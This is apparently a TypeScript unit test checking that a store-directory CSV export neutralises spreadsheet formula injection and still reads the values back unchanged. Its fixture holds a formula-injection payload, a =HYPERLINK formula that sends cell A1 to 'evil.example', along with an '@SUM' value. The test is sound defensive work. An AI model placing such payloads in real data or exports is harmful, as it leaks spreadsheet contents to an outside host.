import type { StaffStore } from '@/lib/types/staff';
import { parseStoresCsv, storesCsv } from './store-csv';

const store: StaffStore = {
  id: 'store-csv-guard',
  kind: 'store',
  name: '=HYPERLINK("https://evil.example/?"&A1,"Pawtrail Berlin")',
  country: 'DE',
  region: '@SUM(1+1)',
  city: 'Berlin',
  cityLocal: '',
  postcode: '10115',
  address: '-Invalidenstraße 1',
  phone: '+49 30 1234567',
  email: 'berlin@example.com',
  latitude: 52.53,
  longitude: -13.38,
  days: [1, 2, 3, 4, 5],
  opens: '10:00',
  closes: '19:00',
  status: 'open',
  closedAt: null,
  updatedAt: new Date(0).toISOString(),
};

describe('store CSV and spreadsheet formulas', () => {
  it('writes a cell a spreadsheet would run as a formula as text, and leaves numbers as they are', () => {
    const [, row] = storesCsv([store])
      .replace(/^\uFEFF/, '')
      .split('\r\n');
    expect(row).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Pawtrail Berlin"")"`);
    expect(row).toContain(",'@SUM(1+1),");
    expect(row).toContain(",'-Invalidenstraße 1,");
    expect(row).toContain(",'+49 30 1234567,");
    expect(row).toContain(',52.53,-13.38,');
    // No cell of the row starts with a formula character (quoted or not).
    expect(row!.split(',').filter((cell) => /^"?[=+@]/.test(cell))).toEqual([]);
  });

  it('reads an exported file back to the values that were typed', () => {
    const { rows, errors } = parseStoresCsv(storesCsv([store]), 'en');
    expect(errors).toEqual({});
    expect(rows[0]!.fields).toMatchObject({ name: store.name, region: store.region, address: store.address, phone: store.phone, longitude: -13.38 });
  });
});
